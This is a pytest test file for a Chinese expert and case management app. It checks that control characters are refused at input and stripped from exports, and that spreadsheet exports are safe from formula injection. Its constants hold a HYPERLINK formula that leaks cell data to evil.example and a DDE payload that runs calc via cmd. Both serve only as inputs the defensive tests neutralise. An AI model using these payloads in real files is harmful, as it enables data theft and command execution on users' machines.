"""Exports against hostile text (issue 8, defects 3 and 4).

- Control characters are refused at input, in one place (app/input_guard.py): any query
  argument, form field or JSON string, API (422, documented shape) and UI (a Chinese page).
  A sign-in name "bo\\u0001b" used to land in the audit log and make its export fail for good.
- Every export survives what is already stored: such characters are dropped on output.
- No export cell is a live formula (OWASP CSV injection): text starting with = + - @ gets an
  apostrophe and .xlsx text cells are string cells; the roster's export still imports back
  unchanged.
"""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from app.audit.models import AuditEntry
from app.cases.models import Case
from app.experts.models import Expert
from app.extensions import db
from app.spreadsheets import safe_cell, unquote_cell
from tests.api.helpers import assert_error, upload
from tests.api.test_cases import case_body


GUARD_UI_TEXT = "提交的内容含有不可见的控制字符"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看详情")'
DDE = "=cmd|' /C calc'!A0"


def sheet_rows(content: bytes) -> list[tuple]:
    """The first sheet's rows, after checking that it holds no formula at all."""
    with zipfile.ZipFile(io.BytesIO(content)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name), f"a formula in {name}"
    ws = load_workbook(io.BytesIO(content)).worksheets[0]
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, str):
                assert cell.data_type == "s", (cell.coordinate, cell.value, cell.data_type)
    return list(ws.iter_rows(values_only=True))


def column(rows: list[tuple], header: str) -> list:
    i = rows[0].index(header)
    return [r[i] for r in rows[1:]]


def audit_export(client, login, world) -> list[tuple]:
    login(world.admin)
    resp = client.get("/admin/audit/export")
    assert resp.status_code == 200, resp.get_data(as_text=True)[:300]
    return sheet_rows(resp.data)


# ---------------------------------------------------------------- control characters, at input

def test_signin_name_with_a_control_character_is_refused_and_the_audit_export_keeps_working(client, world, login):
    resp = client.post("/login", data={"username": "bo\x01b", "password": "whatever"})
    assert resp.status_code == 422 and GUARD_UI_TEXT in resp.get_data(as_text=True)
    err = assert_error(client.post("/api/v1/auth/token", json={"username": "bo\x01b", "password": "x"}), 422,
                       "validation_error", fields=("username",))
    assert err["details"]["username"] == "不能包含不可见的控制字符"
    stored = db.session.execute(select(AuditEntry.summary)).scalars().all()
    assert not any("\x01" in s for s in stored)
    rows = audit_export(client, login, world)
    assert rows[0][:3] == ("ID", "时间（北京时间）", "操作人")


@pytest.mark.parametrize("char", ["\x01", "\x08", "\x0b", "\x1b", "\x7f", "\ufffe"])
def test_the_guard_covers_query_args_form_fields_and_nested_json(client, world, api, login, char):
    h = api(world.officer_nj)
    expert = world.e_nj
    err = assert_error(client.get("/api/v1/experts", query_string={"q": f"王{char}"}, headers=h), 422, fields=("q",))
    assert err["details"] == {"q": "不能包含不可见的控制字符"}
    err = assert_error(client.patch(f"/api/v1/experts/{expert.id}", json={"employer": f"南京{char}大学"}, headers=h), 422)
    assert err["details"] == {"employer": "不能包含不可见的控制字符"}
    err = assert_error(client.patch(f"/api/v1/experts/{expert.id}", json={"specialties": ["civil_law", f"x{char}"]},
                                    headers=h), 422)
    assert list(err["details"]) == ["specialties[1]"]
    login(world.officer_nj)
    resp = client.post("/experts/new", data={"name": f"周{char}立新", "tier": "municipal", "region_code": "320100",
                                             "employer": "律所", "specialties": ["civil_law"], "phone": "13812345678"})
    assert resp.status_code == 422 and GUARD_UI_TEXT in resp.get_data(as_text=True)
    db.session.expire_all()
    assert db.session.get(Expert, expert.id).employer == "南京大学法学院"
    assert db.session.execute(select(Expert).where(Expert.phone == "13812345678")).scalar_one_or_none() is None


def test_a_lone_surrogate_in_json_is_422_not_a_database_error(client, world, api):
    err = assert_error(client.patch(f"/api/v1/experts/{world.e_nj.id}", json={"title": "教\ud800授"},
                                    headers=api(world.officer_nj)), 422)
    assert err["details"] == {"title": "不能包含不可见的控制字符"}


def test_tab_newline_and_carriage_return_pass_and_file_names_are_not_the_guards(client, world, api):
    h = api(world.agency_user)
    resp = client.post("/api/v1/cases", json=case_body(world, summary="第一段\r\n第二段\t（附表）"), headers=h)
    assert resp.status_code == 201, resp.get_json()
    roster = "姓名,层级,行政区划代码,工作单位,专业领域,手机\r\n甲,市,320100,单位,民商法,13900001111\r\n".encode()
    resp = upload(client, api(world.officer_nj), "名\x01册.csv", roster)  # the name is cleaned, not refused
    assert resp.status_code == 200 and resp.get_json()["created"] == 1


# ---------------------------------------------------------------- control characters, already stored

def test_every_export_drops_control_characters_already_stored(app, client, world, api, login):
    """Rows written before the guard existed: the exports drop what XML cannot hold."""
    from app.audit import services as audit

    h = api(world.agency_user)
    case_id = client.post("/api/v1/cases", json=case_body(world), headers=h).get_json()["id"]
    db.session.get(Case, case_id).title = "某小区\x01房屋\x1f征收争议"
    db.session.get(Expert, world.e_nj.id).employer = "南京\x01大学\x7f法学院"
    audit.record("login_failed", "user", None, "bo\x01b 登录失败")
    db.session.commit()

    resp = client.get("/api/v1/cases/export?format=xlsx", headers=h)
    assert resp.status_code == 200, resp.get_data(as_text=True)[:300]
    assert column(sheet_rows(resp.data), "标题") == ["某小区房屋征收争议"]

    officer = api(world.officer_nj)
    resp = client.get("/api/v1/experts/export?format=xlsx", headers=officer)
    assert resp.status_code == 200
    assert column(sheet_rows(resp.data), "工作单位") == ["南京大学法学院"]
    resp = client.get("/api/v1/experts/export?format=csv", headers=officer)
    assert resp.status_code == 200 and "南京大学法学院" in resp.data.decode("utf-8-sig")
    assert "\x01" not in resp.data.decode("utf-8-sig")

    assert "bo\x01b 登录失败" not in column(audit_export(client, login, world), "摘要")
    assert "bob 登录失败" in column(audit_export(client, login, world), "摘要")


# ---------------------------------------------------------------- formula injection

def test_formula_safe_cells_round_trip():
    for text in ["=1+1", "+86", "-5", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''=1", "'abc", "abc", "", "=", DDE, HYPERLINK]:
        safe = safe_cell(text)
        assert not safe.startswith(("=", "+", "-", "@", "\t", "\r")), text
        assert unquote_cell(safe) == text
    assert safe_cell(3) == 3 and safe_cell(None) is None


def test_a_case_title_is_text_not_a_formula_in_the_ledger(client, world, api, login):
    h = api(world.agency_user)
    assert client.post("/api/v1/cases", json=case_body(world, title=HYPERLINK, responsible_leader="@某领导"),
                       headers=h).status_code == 201
    rows = sheet_rows(client.get("/api/v1/cases/export?format=xlsx", headers=h).data)
    assert column(rows, "标题") == ["'" + HYPERLINK]
    assert column(rows, "包案领导") == ["'@某领导"]
    login(world.agency_user)
    rows = sheet_rows(client.get("/cases/export?format=xlsx").data)  # the page's export, the same file
    assert column(rows, "标题") == ["'" + HYPERLINK]


def test_an_unauthenticated_sign_in_name_is_text_not_a_formula_in_the_audit_export(client, world, login):
    assert client.post("/api/v1/auth/token", json={"username": DDE, "password": "x"}).status_code == 401
    client.post("/login", data={"username": HYPERLINK, "password": "x"})
    summaries = column(audit_export(client, login, world), "摘要")
    assert f"'{DDE} 登录失败" in summaries
    assert f"'{HYPERLINK} 登录失败" in summaries


def _snapshot() -> list[tuple]:
    db.session.expire_all()
    return sorted((e.name, e.tier, e.region_code, e.employer, e.title, tuple(e.specialties), e.phone, e.email, e.status,
                   e.term_end, e.max_open_consultations, e.version) for e in db.session.execute(select(Expert)).scalars())


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_roster_export_is_formula_safe_and_imports_back_unchanged(client, world, api, factory, fmt):
    factory.expert("@SUM(1+1)", employer=DDE, title="-主任", email="")
    factory.expert("欧阳明", employer=HYPERLINK, title="'=已有撇号", email="")
    h = api(world.officer_nj)
    before = _snapshot()
    resp = client.get(f"/api/v1/experts/export?format={fmt}", headers=h)
    assert resp.status_code == 200
    if fmt == "xlsx":
        rows = sheet_rows(resp.data)
    else:
        import csv

        rows = list(csv.reader(io.StringIO(resp.data.decode("utf-8-sig"), newline="")))
    assert set(column(rows, "姓名")) == {"王建国", "'@SUM(1+1)", "欧阳明"}
    assert set(column(rows, "工作单位")) == {"南京大学法学院", "'" + DDE, "'" + HYPERLINK}
    assert set(column(rows, "职称")) == {"教授", "'-主任", "''=已有撇号"}
    resp = upload(client, h, f"export.{fmt}", resp.data)
    assert resp.get_json() == {"created": 0, "updated": 0, "errors": []}, resp.get_data(as_text=True)[:500]
    assert _snapshot() == before
